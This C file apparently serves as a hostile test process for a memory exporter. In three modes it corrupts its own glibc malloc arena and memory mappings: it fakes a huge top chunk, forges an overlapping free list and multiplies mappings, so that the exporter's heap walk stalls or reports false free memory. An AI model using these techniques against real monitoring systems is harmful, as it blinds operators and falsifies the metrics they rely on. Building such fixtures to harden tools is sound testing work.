/* A tenant's program that attacks the exporter through its own memory only: what any
 * unprivileged process can do. glibc 2.27-2.42 on x86-64 (malloc_state: flags at 0x4, top
 * at 0x60, bins at 0x70, system_mem at 0x888).
 *
 * usage: hostile bigtop TIB SKIP_PAGES
 *   glibc's main arena says it is not contiguous and its top chunk is a TIB TiB
 *   MAP_NORESERVE reservation that no page backs but the header's, starting SKIP_PAGES
 *   pages into it: a heap walk that looks up every page of it is blinded for minutes.
 * usage: hostile overlap N
 *   N free chunks of 128 MiB in the unsorted bin, each 64 bytes after the last, over
 *   72 MiB of resident memory: counted one by one they are N x 128 MiB "free".
 * usage: hostile maps N
 *   N one-page mappings that the kernel cannot merge (a smaps of N x 700 bytes), beside
 *   72 MiB of resident memory (a deep-tier candidate).
 *
 * Prints "ready PID" once the memory is shaped, then never calls malloc again (its heap
 * is no longer glibc's to use) and sleeps. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define NONCONTIGUOUS 2u
#define PREV_INUSE 1u

static char *main_arena(void) {
    /* A chunk too large for tcache and fastbins, freed away from the top: the unsorted
     * bin's header (main_arena + 0x60) is its fd. */
    void *a = malloc(0x1000), *guard = malloc(0x20);
    (void)guard;
    free(a);
    return (char *)(*(uint64_t *)a - 0x60);
}

static char *touched(size_t bytes) {
    char *p = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) exit(3);
    memset(p, 1, bytes);
    return p;
}

static void set(char *arena, size_t at, uint64_t v) { memcpy(arena + at, &v, 8); }

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc != 4 && argc != 3) return 2;
    const char *mode = argv[1];
    if (!strcmp(mode, "bigtop") && argc == 4) {
        uint64_t size = strtoull(argv[2], 0, 0) << 40, skip = strtoull(argv[3], 0, 0) * 4096;
        char *arena = main_arena();
        char *r = mmap(NULL, size, PROT_READ | PROT_WRITE,
                       MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
        if (r == MAP_FAILED) return 3;
        char *top = r + skip;
        uint64_t top_size = size - skip;
        memcpy(top + 8, &(uint64_t){top_size | PREV_INUSE}, 8);
        uint32_t flags;
        memcpy(&flags, arena + 4, 4);
        flags |= NONCONTIGUOUS;
        memcpy(arena + 4, &flags, 4);
        set(arena, 0x60, (uint64_t)top);
        set(arena, 0x888, size);
    } else if (!strcmp(mode, "overlap") && argc == 3) {
        int n = atoi(argv[2]);
        const uint64_t chunk = 128ull << 20, stride = 64;
        char *arena = main_arena();
        char *r = mmap(NULL, chunk + (uint64_t)n * stride + (1 << 20), PROT_READ | PROT_WRITE,
                       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (r == MAP_FAILED) return 3;
        memset(r, 1, 72ull << 20);
        uint64_t bin = (uint64_t)arena + 0x60;
        for (int i = 0; i < n; i++) {
            uint64_t *c = (uint64_t *)(r + (uint64_t)i * stride);
            uint64_t *footer = (uint64_t *)((char *)c + chunk);
            c[1] = chunk | PREV_INUSE;
            /* Linked as glibc links a bin: the bin's bk is chunk 0, each chunk's bk the
             * next, the last one's bk the bin; each fd points back. */
            c[2] = i > 0 ? (uint64_t)(r + (uint64_t)(i - 1) * stride) : bin;
            c[3] = i + 1 < n ? (uint64_t)(r + (uint64_t)(i + 1) * stride) : bin;
            footer[0] = chunk;
            footer[1] = 0;
        }
        /* The bin: its fd is the last chunk, its bk chunk 0 (where a walk starts). */
        set(arena, 0x70, (uint64_t)(r + (uint64_t)(n - 1) * stride));
        set(arena, 0x78, (uint64_t)r);
        uint32_t flags;
        memcpy(&flags, arena + 4, 4);
        flags |= NONCONTIGUOUS;
        memcpy(arena + 4, &flags, 4);
    } else if (!strcmp(mode, "maps") && argc == 3) {
        int n = atoi(argv[2]);
        touched(72ull << 20);
        char *r = mmap(NULL, (size_t)n * 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (r == MAP_FAILED) return 3;
        for (int i = 1; i < n; i += 2)
            if (mprotect(r + (size_t)i * 4096, 4096, PROT_READ | PROT_WRITE)) return 4;
    } else {
        return 2;
    }
    printf("ready %d\n", (int)getpid());
    for (;;) pause();
}
